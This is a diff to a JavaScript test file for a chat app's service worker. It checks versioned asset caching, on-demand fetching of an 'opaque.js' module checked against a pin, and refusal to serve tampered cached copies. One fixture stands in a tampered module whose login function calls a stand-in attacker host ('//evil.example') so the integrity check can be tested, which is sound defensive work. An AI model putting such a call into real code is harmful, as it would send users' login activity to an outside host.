@@ -175,13 +175,14 @@ async function loadWorker(network = site) {
   return fake;
 }
 
-test("install caches exactly the page's static files, under a versioned name", async () => {
-  const { ASSETS, CACHE_PREFIX, VERSION } = await import("../src/sw/sw.js");
+test("install caches exactly the page's static files, under a versioned name (the on-demand OPAQUE client when first asked for)", async () => {
+  const { ASSETS, CACHE_PREFIX, ON_DEMAND, VERSION } = await import("../src/sw/sw.js");
   const { self, listeners, fetched } = await loadWorker();
   await dispatchLifecycle(listeners, "install");
   assert.deepEqual([...self.caches.stores.keys()], [CACHE_PREFIX + VERSION]);
   const keys = [...self.caches.stores.get(CACHE_PREFIX + VERSION).keys()].sort();
-  assert.deepEqual(keys, [...ASSETS].sort());
+  assert.deepEqual(keys, ASSETS.filter((path) => !ON_DEMAND.includes(path)).sort());
+  assert.deepEqual([...ON_DEMAND], ["/chat/opaque.js"]);
   for (const key of keys) assert.ok(key.startsWith("/chat/") && !key.includes("/api/"), key);
   assert.ok(fetched.every((u) => u.startsWith(`${ORIGIN}/chat/`)));
 });
@@ -452,14 +453,16 @@ test("the built sw.js: a tampered cached app.js is not served, the built one is;
   assert.ok((await bytes(store.get("/chat/").clone())).equals(files.get("/chat/")));
 });
 
-test("the built sw.js: opaque.js is cached at install and a tampered copy of it is never served", async () => {
+test("the built sw.js: opaque.js is fetched when first asked for, checked, kept, and a tampered copy of it is never served", async () => {
   const { listeners, files, network, store } = await builtWorker();
   const bytes = async (res) => Buffer.from(await res.arrayBuffer());
   const built = files.get("/chat/opaque.js");
-  assert.ok(store.has("/chat/opaque.js"), "install did not cache opaque.js");
-  // The page import()s it: a same-origin cors GET, answered from the verified cache.
+  assert.equal(store.has("/chat/opaque.js"), false, "install cached opaque.js: a first visit would download it");
+  // The page import()s it: a same-origin cors GET, fetched, checked against its pin, then kept.
   const first = await dispatchFetch(listeners, req(`${ORIGIN}/chat/opaque.js`, { mode: "cors" }));
   assert.ok((await bytes(first)).equals(built));
+  await settle();
+  assert.ok(store.has("/chat/opaque.js"), "the checked copy was not kept");
   store.set("/chat/opaque.js", new Response("export const startLogin = () => fetch('//evil.example')", { status: 200 }));
   network.current = () => new Response("export const startLogin = () => 'network'", { status: 200 });
   const refused = await dispatchFetch(listeners, req(`${ORIGIN}/chat/opaque.js`, { mode: "cors" }));
